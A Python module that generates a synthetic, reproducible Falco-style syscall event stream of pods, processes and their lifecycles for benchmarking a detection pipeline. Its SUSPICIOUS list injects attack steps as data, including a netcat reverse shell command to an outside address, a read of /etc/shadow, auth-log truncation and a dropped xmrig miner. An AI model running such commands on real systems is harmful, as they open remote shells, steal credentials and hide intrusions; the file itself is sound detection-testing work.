"""A realistic generated syscall stream, shared by the benchmarks (bench/engine.py, bench/pipeline.py).

    from syscall_events import generate_events, encode_events
    events = generate_events(100_000, seed=42)      # list of flat dicts
    payloads = encode_events(events)                 # list of JSON bytes, one per event
    payloads = encode_events(iter_events(1_000_000)) # the same without keeping the dicts
    stream = NodeStream(seed=7); event = stream.next_event()  # one at a time, open-ended

Each event is a flat object keyed by Falco field names, spelled as the syscall
field registry (pipeline/fields/syscall.py) reads them and shaped like Falco's
``output_fields``: ``evt.arg.flags``, ``proc.aname[2]``, ``fd.typechar``... Only
the fields an event of that type carries are present (an ``openat`` has
``evt.is_open_read``, a ``read`` does not; a host event has no ``k8s.*``).

The mix is what a busy node's stream looks like after a collector's syscall
filter: mostly file opens and reads, some execve, clone, procexit,
connect/accept/sendto, a few chmod, unlink and setuid; about half from
containers (with k8s.* fields), the rest from host daemons and an SSH session.

The events come from processes that live on: one node (one pid space) runs
five pods and its host daemons, each with a small process population (see
WORKLOADS): a main process (vpid 1 in its container) that does most of the
file and network syscalls, a few long-lived workers it forked, and
short-lived children. A child starts with a ``clone`` of its parent (the
parent's side, ``evt.rawres`` = the child's pid), may ``execve`` a program
(some through a wrapper that execs again: ``env``), and ends with a
``procexit``; its pid is never used again (pids grow, as the kernel hands
them out). Every event of a process carries the same pid, vpid, parent and
ancestors (``proc.pname``, ``proc.aname[N]``, from the real parent chain), so
a process tree built from the stream stays at a few to a few tens of live
processes per container (plus the exited ones it keeps for a while).
``evt.time`` advances 50 us an event (a node at 20K events/s).

About 1 event in 500 (``evt.num % 500 == 250``) is one of a few attack steps
that Falco's rules flag (a read of /etc/shadow, a terminal shell in a
container, log files truncated, chmod +x in a container, a binary dropped
into a container run, netcat...), from a process of its own, so the alert
path runs too.

The same ``(n, seed)`` always gives the same events.
"""

from __future__ import annotations

import io
import itertools
import random
from dataclasses import dataclass, field
from typing import Any, Iterable, Iterator

import orjson

# (event type, weight); clone/execve/procexit follow the processes' lives (see NodeStream)
MIX = [
    ("openat", 30), ("open", 4), ("read", 18), ("close", 6), ("mmap", 3), ("execve", 7), ("connect", 6),
    ("accept", 3), ("sendto", 5), ("chmod", 2), ("fchmodat", 1), ("unlinkat", 2), ("setuid", 1), ("clone", 6),
    ("procexit", 6),
]
OPEN_TYPES = frozenset({"open", "openat"})
FD_FILE_TYPES = frozenset({"open", "openat", "read", "close", "mmap"})
NET_TYPES = frozenset({"connect", "accept", "sendto"})
# programs of the mix that Falco's "System procs network activity" flags on the network: their
# sockets belong to the nearest ancestor that is none of them (cat -> bash -> sshd)
OFF_NETWORK = frozenset({"bash", "sh", "cat", "env", "ls", "nice"})
LIFECYCLE = frozenset({"clone", "execve", "procexit"})
TIME_STEP_NS = 50_000
FORK_FLAGS = "CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID"

FILES = [
    "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/etc/ssl/certs/ca-certificates.crt", "/etc/localtime",
    "/var/log/app/access.log", "/proc/self/status", "/proc/meminfo", "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/usr/lib/x86_64-linux-gnu/libssl.so.3", "/tmp/cache-4f2a.bin", "/app/data/db.sqlite", "/dev/null", "/dev/urandom",
    "/etc/passwd", "/sys/fs/cgroup/memory.max", "/app/static/index.html", "/var/lib/postgresql/data/base/16384/2619",
]
# id, name, image, tag, namespace, pod
CONTAINERS = [
    ("3f2a9c1b7e4d", "web", "registry.local/shop/web", "1.4.2", "shop", "web-7c9d5f-x2k4p"),
    ("8b1d0e6a2c93", "api", "registry.local/shop/api", "2.0.1", "shop", "api-5b8c7d-q9w2e"),
    ("c47e1f9a0b25", "db", "docker.io/library/postgres", "15.4", "data", "db-0"),
    ("5d09b3e8f1a7", "search", "registry.local/shop/search", "3.2.0", "shop", "search-6f4b9c-m3n8r"),
    ("e2a6c8d4b0f3", "frontend", "registry.local/shop/frontend", "1.9.7", "shop", "frontend-84d7c6-t5v2z"),
]
SERVERS = [("10.0.3.17", 5432, "tcp"), ("10.0.5.2", 443, "tcp"), ("10.96.0.10", 53, "udp"), ("172.217.3.110", 443, "tcp")]

# A program: (name, exepath, cmdline)
Program = tuple[str, str, str]


@dataclass(frozen=True, slots=True)
class Workload:
    """One pod's (or the host's) processes: ``chain`` from the outermost ancestor (outside the
    container: systemd, its containerd-shim) down to the main process; long-lived ``workers``
    forked by the main process; the programs its short-lived children run (a list of execs,
    empty for a plain fork: a worker respawned, a database backend), at most ``max_children``
    alive at once; ``weight``: its share of the node's events, ``spawns`` of its process starts;
    ``user``: (name, uid, loginuid)."""

    container: tuple | None
    chain: tuple[Program, ...]
    workers: tuple[Program, ...]
    children: tuple[tuple[Program, ...], ...]
    max_children: int
    weight: int
    user: tuple[str, int, int]
    spawns: int = 0


SHIM = ("containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2 -namespace k8s.io")
SYSTEMD = ("systemd", "/usr/lib/systemd/systemd", "/sbin/init")
APP, ROOT = ("app", 1000, -1), ("root", 0, -1)
WORKLOADS = [
    Workload(CONTAINERS[0], (SYSTEMD, SHIM, ("nginx", "/usr/sbin/nginx", "nginx -g daemon off;")),
             (("nginx", "/usr/sbin/nginx", "nginx: worker process"),) * 4,
             ((),), 4, 12, ROOT, 1),
    Workload(CONTAINERS[1], (SYSTEMD, SHIM, ("gunicorn", "/usr/local/bin/gunicorn", "gunicorn app:server -w 4"),
                             ("python3", "/usr/bin/python3.11", "python3 app.py --port 8000")),
             (("python3", "/usr/bin/python3.11", "python3 app.py --port 8000 --worker"),) * 3,
             ((("python3", "/usr/bin/python3.11", "python3 -m app.jobs.thumbnail"),),
              (("env", "/usr/bin/env", "/usr/bin/env python3 -m app.jobs.report"),
               ("python3", "/usr/bin/python3.11", "python3 -m app.jobs.report"))), 40, 12, APP, 6),
    Workload(CONTAINERS[2], (SYSTEMD, SHIM, ("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres")),
             (("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer"),
              ("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: walwriter"),
              ("postgres", "/usr/lib/postgresql/15/bin/postgres", "postgres: autovacuum launcher")),
             ((),), 50, 11, APP, 2),
    Workload(CONTAINERS[3], (SYSTEMD, SHIM, ("tini", "/usr/bin/tini", "tini -- java -jar /app/service.jar"),
                             ("java", "/opt/java/openjdk/bin/java", "java -Xmx512m -jar /app/service.jar")),
             (("controller", "/app/bin/controller", "/app/bin/controller --config /app/config/search.yml"),), (), 0, 10, APP),
    Workload(CONTAINERS[4], (SYSTEMD, SHIM, ("npm", "/usr/local/bin/npm", "npm start"), ("node", "/usr/local/bin/node", "node server.js")),
             (("node", "/usr/local/bin/node", "/usr/local/bin/node /app/server.js --cluster-worker"),) * 2, (), 0, 10, APP),
    Workload(None, (SYSTEMD, ("kubelet", "/usr/bin/kubelet", "kubelet --config=/var/lib/kubelet/config.yaml")), (), (), 0, 16, ROOT),
    Workload(None, (SYSTEMD, ("containerd", "/usr/bin/containerd", "containerd")), (),
             ((("runc", "/usr/bin/runc", "runc --root /run/containerd/runc/k8s.io state 3f2a9c1b7e4d"),),
              (("runc", "/usr/bin/runc", "runc --root /run/containerd/runc/k8s.io exec --process /tmp/runc-process c47e1f9a0b25"),
               ("runc", "/usr/bin/runc", "runc init"))), 20, 14, ROOT, 5),
    Workload(None, (SYSTEMD, ("sshd", "/usr/sbin/sshd", "sshd -D"), ("sshd", "/usr/sbin/sshd", "sshd: admin [priv]"),
                    ("bash", "/usr/bin/bash", "-bash")), (),
             ((("cat", "/usr/bin/cat", "cat /etc/hosts"),),
              (("nice", "/usr/bin/nice", "nice -n 10 ls -la /var/log"), ("ls", "/usr/bin/ls", "ls -la /var/log"))), 8, 15, ("root", 0, 1000), 4),
]

# Attack steps that Falco's stable and incubating rules flag; each updates a generated event.
SUSPICIOUS: list[dict[str, Any]] = [
    {  # Read sensitive file untrusted
        "evt.type": "openat", "fd.name": "/etc/shadow", "fd.directory": "/etc", "fd.filename": "shadow", "fd.typechar": "f",
        "fd.type": "file", "fd.num": 5, "evt.is_open_read": True, "evt.is_open_write": False, "evt.arg.flags": "O_RDONLY",
        "proc.name": "cat", "proc.exepath": "/usr/bin/cat", "proc.cmdline": "cat /etc/shadow",
    },
    {  # Terminal shell in container
        "evt.type": "execve", "proc.name": "bash", "proc.exe": "/bin/bash", "proc.exepath": "/usr/bin/bash", "proc.cmdline": "bash",
        "proc.args": "", "proc.pname": "runc", "proc.tty": 34816, "container.id": "3f2a9c1b7e4d",
    },
    {  # Clear Log Activities
        "evt.type": "openat", "fd.name": "/var/log/auth.log", "fd.directory": "/var/log", "fd.filename": "auth.log",
        "fd.typechar": "f", "fd.type": "file", "fd.num": 6, "evt.is_open_read": False, "evt.is_open_write": True,
        "evt.arg.flags": "O_WRONLY|O_TRUNC", "proc.name": "sh", "proc.exepath": "/bin/sh", "proc.cmdline": "sh -c > /var/log/auth.log",
    },
    {  # Drop and execute new binary in container
        "evt.type": "execve", "proc.name": "xmrig", "proc.exe": "/tmp/xmrig", "proc.exepath": "/tmp/xmrig", "proc.cmdline": "xmrig -o pool:3333",
        "proc.args": "-o pool:3333", "proc.pname": "sh", "proc.is_exe_upper_layer": True, "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
        "container.id": "8b1d0e6a2c93",
    },
    {  # chmod +x in a container
        "evt.type": "fchmodat", "evt.arg.filename": "/tmp/xmrig", "evt.arg.mode": "0755(S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IRWXU)",
        "fd.name": "/tmp/xmrig", "container.id": "8b1d0e6a2c93", "evt.rawres": 0, "evt.res": "SUCCESS",
    },
    {  # Netcat remote code execution / network tool in container
        "evt.type": "execve", "proc.name": "nc", "proc.exe": "nc", "proc.exepath": "/usr/bin/nc", "proc.cmdline": "nc -e /bin/sh 203.0.113.9 4444",
        "proc.args": "-e /bin/sh 203.0.113.9 4444", "proc.pname": "sh", "container.id": "3f2a9c1b7e4d",
    },
]


@dataclass(slots=True, eq=False)
class Process:
    pid: int
    vpid: int
    program: Program
    parent: "Process | None"
    user: tuple[str, int, int]
    weight: int  # its share of its workload's file and network syscalls
    execs: list[Program] = field(default_factory=list)  # the programs it has still to exec
    fixed: dict[str, Any] = field(default_factory=dict)  # its proc.*/user.* fields, made once per image

    def fields(self) -> dict[str, Any]:
        if not self.fixed:
            name, exepath, cmdline = self.program
            parent = self.parent
            fixed = self.fixed
            fixed.update({
                "proc.name": name, "proc.exe": exepath if name == "java" else exepath.rsplit("/", 1)[1], "proc.exepath": exepath,
                "proc.cmdline": cmdline, "proc.args": cmdline.partition(" ")[2], "proc.pid": self.pid,
                "proc.ppid": parent.pid if parent else 0, "proc.vpid": self.vpid,
            })
            if parent is not None:
                fixed.update({"proc.pname": parent.program[0], "proc.pexepath": parent.program[1], "proc.pcmdline": parent.program[2],
                              "proc.sname": parent.program[0]})
                ancestor, level = parent.parent, 2
                while ancestor is not None and level <= 3:
                    fixed[f"proc.aname[{level}]"] = ancestor.program[0]
                    ancestor, level = ancestor.parent, level + 1
            fixed.update({"proc.tty": 0, "proc.sid": 1, "proc.vpgid": 1, "user.name": self.user[0], "user.uid": self.user[1],
                          "user.loginuid": self.user[2], "group.gid": 0})
        return self.fixed


class Pod:
    """A workload's live processes."""

    def __init__(self, workload: Workload, node: "NodeStream") -> None:
        self.workload = workload
        self.vpids = 0
        parent = None
        for depth, program in enumerate(workload.chain):
            # the chain's members outside the container (systemd, the shim) are shared by nothing and send no events here
            parent = node.spawn(self, program, parent, weight=6, in_container=depth >= 2 if workload.container else True,
                                user=workload.user if depth == len(workload.chain) - 1 else ROOT, pid=1 if program is SYSTEMD else None)
        self.main: Process = parent  # type: ignore[assignment]
        self.long_lived: list[Process] = [self.main] + [node.spawn(self, w, self.main, weight=3, user=workload.user) for w in workload.workers]
        self.children: list[Process] = []
        self._live: tuple[list[Process], list[int]] | None = None

    def live(self) -> tuple[list[Process], list[int]]:
        """The live processes and their cumulative weights (kept until a child starts or ends)."""
        if self._live is None:
            procs = self.long_lived + self.children
            self._live = (procs, list(itertools.accumulate(p.weight for p in procs)))
        return self._live

    def changed(self) -> None:
        self._live = None


class NodeStream:
    """One node's syscall events, in order: ``next_event()``; same seed, same events."""

    def __init__(self, seed: int = 42, start_pid: int = 20_000) -> None:
        self.rng = random.Random(seed)
        self.seq = 0
        self.next_pid = start_pid
        self.pods = [Pod(w, self) for w in WORKLOADS]
        self.pod_weights = list(itertools.accumulate(w.weight for w in WORKLOADS))  # cumulative, for rng.choices
        self.types = [t for t, _ in MIX]
        self.type_weights = list(itertools.accumulate(w for _, w in MIX))

    def spawn(self, pod: Pod, program: Program, parent: Process | None, *, weight: int, user: tuple[str, int, int],
              in_container: bool = True, pid: int | None = None) -> Process:
        if pid is None:
            self.next_pid += 1 + self.rng.randrange(3)  # other processes of the node take pids in between
            pid = self.next_pid
        vpid = pid
        if pod.workload.container is not None and in_container:
            pod.vpids += 1
            vpid = pod.vpids
        return Process(pid, vpid, program, parent, user, weight)

    # -- the processes' lives ------------------------------------------------------------

    def _clone(self, pod: Pod) -> tuple[Process, dict[str, Any]]:
        """A long-lived process forks a child: the parent's clone exit, rawres = the child's pid."""
        rng = self.rng
        parent = rng.choice(pod.long_lived)
        child = self.spawn(pod, parent.program, parent, weight=1, user=parent.user)
        child.execs = list(rng.choice(pod.workload.children))
        pod.children.append(child)
        pod.changed()
        return parent, {"evt.rawres": child.pid, "evt.arg.flags": FORK_FLAGS}

    def _lifecycle(self, evttype: str, pod: Pod) -> tuple[str, Pod, Process, dict[str, Any]]:
        rng = self.rng
        pods = self.pods
        if evttype == "execve":
            waiting = [(p, c) for p in pods for c in p.children if c.execs]
            if waiting:
                pod, child = rng.choice(waiting)
                child.program = child.execs.pop(0)
                child.fixed = {}
                return "execve", pod, child, {"proc.is_exe_upper_layer": False, "proc.is_exe_writable": False,
                                              "proc.exe_ino": 131_000 + self.seq % 500, "evt.arg.flags": "0"}
            evttype = "clone"  # nothing to exec yet: a process forks
        if evttype == "procexit":
            done = [(pod, c) for c in pod.children if not c.execs] or [(p, c) for p in pods for c in p.children if not c.execs]
            if done:
                pod, child = rng.choice(done)
                pod.children.remove(child)
                pod.changed()
                return "procexit", pod, child, {"evt.dir": ">", "evt.rawres": 0}
            evttype = "clone"
        roomy = [p for p in pods if p.workload.spawns and len(p.children) < p.workload.max_children]
        if not roomy:
            return "read", pod, rng.choice(pod.long_lived), {}
        pod = rng.choices(roomy, [p.workload.spawns for p in roomy])[0]
        parent, extra = self._clone(pod)
        return "clone", pod, parent, extra

    # -- events -------------------------------------------------------------------------

    def next_event(self) -> dict[str, Any]:
        rng = self.rng
        seq = self.seq
        self.seq += 1
        evttype = rng.choices(self.types, cum_weights=self.type_weights)[0]
        pod = rng.choices(self.pods, cum_weights=self.pod_weights)[0]
        extra: dict[str, Any] = {}
        if seq % 500 == 250:
            return self._attack(seq, evttype, pod)
        if evttype in LIFECYCLE:
            evttype, pod, proc, extra = self._lifecycle(evttype, pod)
        else:
            live, weights = pod.live()
            proc = rng.choices(live, cum_weights=weights)[0]
            while evttype in NET_TYPES and proc.program[0] in OFF_NETWORK and proc.parent is not None:
                proc = proc.parent  # a shell or coreutil on the network is Falco's "System procs network activity"
        return self._event(seq, evttype, pod, proc, extra)

    def _attack(self, seq: int, evttype: str, pod: Pod) -> dict[str, Any]:
        """An attack step, by a process of its own (a pid never seen before or after) under the pod's main process."""
        step = SUSPICIOUS[(seq // 500) % len(SUSPICIOUS)]
        if "container.id" in step:
            pod = next(p for p in self.pods if p.workload.container and p.workload.container[0] == step["container.id"])
        proc = self.spawn(pod, (step.get("proc.name", "sh"), step.get("proc.exepath", "/bin/sh"), step.get("proc.cmdline", "sh")),
                          pod.main, weight=0, user=pod.main.user)
        event = self._event(seq, step["evt.type"] if step["evt.type"] in LIFECYCLE else evttype, pod, proc, {})
        event.update(step)
        return event

    def _event(self, seq: int, evttype: str, pod: Pod, proc: Process, extra: dict[str, Any]) -> dict[str, Any]:
        rng = self.rng
        event: dict[str, Any] = {
            "evt.type": evttype, "evt.dir": "<", "evt.num": seq, "evt.time": 1_714_564_800_000_000_000 + seq * TIME_STEP_NS,
            "evt.res": "SUCCESS", "evt.rawres": 0, "evt.hostname": "node-a",
        }
        event.update(proc.fields())
        container = pod.workload.container
        if container is not None:
            cid, cname, image, tag, namespace, podname = container
            event.update({"container.id": cid, "container.name": cname, "container.image.repository": image,
                          "container.image.tag": tag, "container.privileged": False, "k8s.ns.name": namespace, "k8s.pod.name": podname})
        else:
            event.update({"container.id": "host", "container.name": "host"})
        if evttype in FD_FILE_TYPES:
            path = rng.choice(FILES)
            directory, _, filename = path.rpartition("/")
            event.update(
                {"fd.num": 3 + seq % 60, "fd.type": "file", "fd.typechar": "f", "fd.name": path, "fd.directory": directory or "/", "fd.filename": filename}
            )
            if evttype in OPEN_TYPES:
                write = rng.random() < 0.12
                event.update(
                    {
                        "evt.arg.flags": "O_WRONLY|O_CREAT|O_APPEND" if write else "O_RDONLY|O_CLOEXEC",
                        "evt.is_open_read": not write, "evt.is_open_write": write, "evt.is_open_exec": False,
                        "evt.rawres": event["fd.num"],
                    }
                )
            elif evttype == "read":
                event.update({"evt.arg.size": 4096, "evt.rawres": 512 + seq % 3584})
        elif evttype in NET_TYPES:
            sip, sport, proto = rng.choice(SERVERS)
            cport = 32768 + seq % 28000
            event.update(
                {
                    "fd.num": 7 + seq % 20, "fd.type": "ipv4", "fd.typechar": "4", "fd.sockfamily": "ip", "fd.l4proto": proto,
                    "fd.cip": "10.244.1.17", "fd.cport": cport, "fd.sip": sip, "fd.sport": sport,
                    "fd.lip": "10.244.1.17", "fd.rip": sip, "fd.lport": cport, "fd.rport": sport,
                    "fd.name": f"10.244.1.17:{cport}->{sip}:{sport}",
                }
            )
            if evttype == "connect":
                event["evt.res"], event["evt.rawres"] = ("EINPROGRESS", -115) if rng.random() < 0.3 else ("SUCCESS", 0)
        elif evttype == "execve" and not extra:
            event.update({"proc.is_exe_upper_layer": False, "proc.is_exe_writable": False, "proc.exe_ino": 131_000 + seq % 500, "evt.arg.flags": "0"})
        elif evttype in ("chmod", "fchmodat"):
            path = rng.choice(FILES[5:12])
            event.update({"evt.arg.filename": path, "evt.arg.mode": "0644(S_IROTH|S_IRGRP|S_IWUSR|S_IRUSR)", "fd.name": path})
        elif evttype == "unlinkat":
            path = "/tmp/cache-" + format(seq % 4096, "x") + ".bin"
            event.update({"evt.arg.name": path, "fd.name": path})
        elif evttype == "setuid":  # a root process dropping privileges (nginx's master to its workers)
            event.update({"evt.arg.uid": "101(nginx)", "user.name": "root", "user.uid": 0})
        event.update(extra)
        return event


def iter_events(n: int, seed: int = 42) -> Iterator[dict[str, Any]]:
    """``n`` events of the mix, one at a time (nothing kept: for large runs)."""
    stream = NodeStream(seed)
    for _ in range(n):
        yield stream.next_event()


def generate_events(n: int, seed: int = 42) -> list[dict[str, Any]]:
    """``n`` events of the mix; the same (n, seed) always gives the same list."""
    return list(iter_events(n, seed))


def encode_events(events: Iterable[dict[str, Any]], chunk: int = 10_000) -> list[bytes]:
    """Each event as JSON bytes. Written to a buffer then split, a chunk at a time: orjson's
    own output buffers are oversized, and keeping 100K of them would inflate the RSS measured."""
    payloads: list[bytes] = []
    buffer = io.BytesIO()
    count = 0
    for event in events:
        buffer.write(orjson.dumps(event))
        buffer.write(b"\n")
        count += 1
        if count == chunk:
            payloads.extend(buffer.getvalue().split(b"\n")[:-1])
            buffer, count = io.BytesIO(), 0
    payloads.extend(buffer.getvalue().split(b"\n")[:-1])
    return payloads


def unbound_keys(events: list[dict[str, Any]]) -> set[str]:
    """Keys of ``events`` that the syscall field registry cannot bind (should be none)."""
    from pipeline.fields import registry_for  # type: ignore[attr-defined]
    from pipeline.fields.registry import UnknownField

    registry = registry_for("syscall")
    keys = {key for event in events for key in event}
    bad = set()
    for key in keys:
        name, _, rest = key.partition("[")
        try:
            registry.bind(name, rest[:-1] if rest else None)
        except UnknownField:
            bad.add(key)
    return bad


__all__ = ["MIX", "NodeStream", "encode_events", "generate_events", "iter_events", "unbound_keys"]
